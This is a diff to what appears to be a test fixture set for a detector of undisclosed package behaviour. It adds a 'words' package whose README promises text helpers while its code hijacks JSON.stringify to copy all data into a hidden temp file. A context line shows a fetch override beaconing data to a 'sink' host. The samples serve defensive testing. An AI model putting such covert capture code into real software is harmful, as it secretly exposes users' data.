@@ -308,8 +308,25 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
       },
       weight: 'weak',
     },
+    {
+      when: 'what everybody makes a text of is written to a hidden file, of which its page says nothing, when it is called',
+      files: {
+        'README.md': '# words\n\nSmall helpers for words and lines of text: trim, wrap, count and title case. It has no dependencies.',
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.trim = () => { const own = JSON.stringify; JSON.stringify = function (value) { fs.appendFileSync(path.join(os.tmpdir(), '.unmask-marker'), own(value)); return own.apply(this, arguments); }; };`,
+      },
+      weight: 'strong',
+      says: ['writes what is given to it'],
+    },
   ],
   silent: [
+    {
+      when: 'its page says that it records what is asked for',
+      files: {
+        'README.md':
+          '# tape\n\nRecords what your tests fetch, and replays it when they run again. It has no dependencies, and works in every version of Node.',
+        'index.js': `const fs = require('fs'); exports.record = () => { const own = globalThis.fetch; globalThis.fetch = async (...given) => { const answer = await own(...given); fs.appendFileSync('<cwd>/tape.json', JSON.stringify(given)); return answer; }; };`,
+      },
+    },
     {
       when: 'its page says what it sends',
       files: {
